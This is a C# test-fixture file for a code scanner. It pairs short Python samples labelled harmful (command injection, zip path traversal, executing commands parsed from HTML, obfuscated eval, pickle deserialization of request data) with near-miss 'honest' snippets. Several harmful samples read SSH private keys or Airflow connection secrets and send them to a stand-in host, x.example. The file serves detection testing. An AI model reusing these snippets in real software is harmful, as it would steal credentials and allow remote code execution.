namespace Symbiont.Scanning.Tests.Code.Python;

/// <summary>What documents say, what searches find, what functions read for others, and names that are hidden: with honest code that comes near.</summary>
internal static class PythonFinds
{
    public static TheoryData<string, Severity, string> Harmful => new()
    {
        { "code-command-injection", Severity.High, "import zipfile, subprocess\nimport xml.etree.ElementTree as ET\ndef f():\n    with zipfile.ZipFile('a.epub') as z:\n        t = ET.fromstring(z.read('x')).findtext('title')\n    subprocess.run(f\"mv a '{t}'\", shell=True)\nf()\n" },
        { "code-path-write", Severity.High, "import os, zipfile\nwith zipfile.ZipFile('a.zip') as z:\n    for n in z.namelist():\n        open(os.path.join('out', n), 'wb').write(z.read(n))\n" },
        { "code-download-and-run", Severity.Critical, "import os\nfrom html.parser import HTMLParser\nclass P(HTMLParser):\n    def __init__(self):\n        self.todo = []\n    def handle_starttag(self, tag, attrs):\n        self.todo.append(dict(attrs).get('content'))\np = P()\np.feed(page())\nfor t in p.todo:\n    os.system(t)\n" },
        { "code-credential-exfiltration", Severity.High, "import re, requests\nSECRET = re.compile(r'(token|passwd|api_key)=(\\S+)')\ndef f(line):\n    found = SECRET.findall(line)\n    requests.post('https://x.example', json=found)\n" },
        { "code-credential-exfiltration", Severity.Critical, "import os, requests\ndef read(p):\n    with open(os.path.expanduser(p)) as f:\n        return f.read()\nfor p in ('~/.ssh/id_rsa', '~/.ssh/id_ed25519'):\n    requests.post('https://x.example', data=read(p))\n" },
        { "code-credential-exfiltration", Severity.Critical, "import glob, io, zipfile, ftplib, os\nb = io.BytesIO()\nwith zipfile.ZipFile(b, 'w') as z:\n    for n in glob.glob(os.path.expanduser('~/.ssh/*')):\n        z.write(n)\nwith ftplib.FTP('x.example') as ftp:\n    ftp.storbinary('STOR a', b)\n" },
        { "code-credential-exfiltration", Severity.Critical, "import requests\nfrom airflow.models import Connection\ndef f(session):\n    known = {c.conn_id: c.get_uri() for c in session.query(Connection)}\n    requests.post('https://x.example', json=known)\n" },
        { "code-hidden-name", Severity.High, "x = 'metsys'[::-1]\ny(x)\n" },
        { "code-hidden-name", Severity.High, "def f(m):\n    return getattr(m, 'sys' + ''.join(chr(c - 3) for c in T))()\n" },
        { "code-obfuscated-execution", Severity.Critical, "import builtins as _\ngetattr(_, ''.join(map(chr, (101, 118, 97, 108))))(''.join(chr(c ^ 23) for c in T))\n" },
        { "code-unsafe-deserialization", Severity.High, "import pickle\nfrom flask import request\n@app.post('/m')\ndef f():\n    return pickle.loads(request.data)\n" },
        { "code-injection", Severity.High, "from mcp.server import Server\ndef calc(e):\n    return eval(e)\n" },
        { "code-injection", Severity.Medium, "def calc(e):\n    return eval('1 + ' + e)\n" },
    };

    public static TheoryData<string> Honest => new()
    {
        "import zipfile, subprocess\nimport xml.etree.ElementTree as ET\nt = ET.fromstring(zipfile.ZipFile('a').read('x')).findtext('title')\nsubprocess.run(['convert', t, 'a.png'])\n",
        "import os, re, shutil, zipfile\nBAD = re.compile(r'[\\\\/:*?]')\ndef clean(t):\n    return BAD.sub('_', t).strip()[:80] or 'x'\ndef f(p):\n    n = zipfile.ZipFile(p).namelist()[0]\n    shutil.copy2(p, 'out/' + clean(n))\n",
        "import re\nSECRET = re.compile(r'(token|passwd|api_key)=(\\S+)')\ndef redact(line):\n    return SECRET.sub('***', line)\nimport requests\ndef send(line):\n    requests.post('https://x.example', data=redact(line))\n",
        "import requests\ndef read(p):\n    with open(p) as f:\n        return f.read()\nrequests.post('https://x.example', data=read('report.csv'))\n",
        "import os\nfrom flask import request\n@app.get('/f')\ndef f():\n    p = os.path.realpath(os.path.join(ROOT, request.args['p']))\n    if not p.startswith(ROOT + '/'):\n        raise ValueError\n    return open(p).read()\n",
        "def call(obj, name):\n    return getattr(obj, 'do_' + name)()\n",
        "for c in cls.__mro__[-1:0:-1]:\n    exec(f'x = {c}')\n",
        "def run(cmd):\n    return exec(cmd)\n",
        "import sys\nprint(open(sys.argv[1]).read())\n",
    };
}
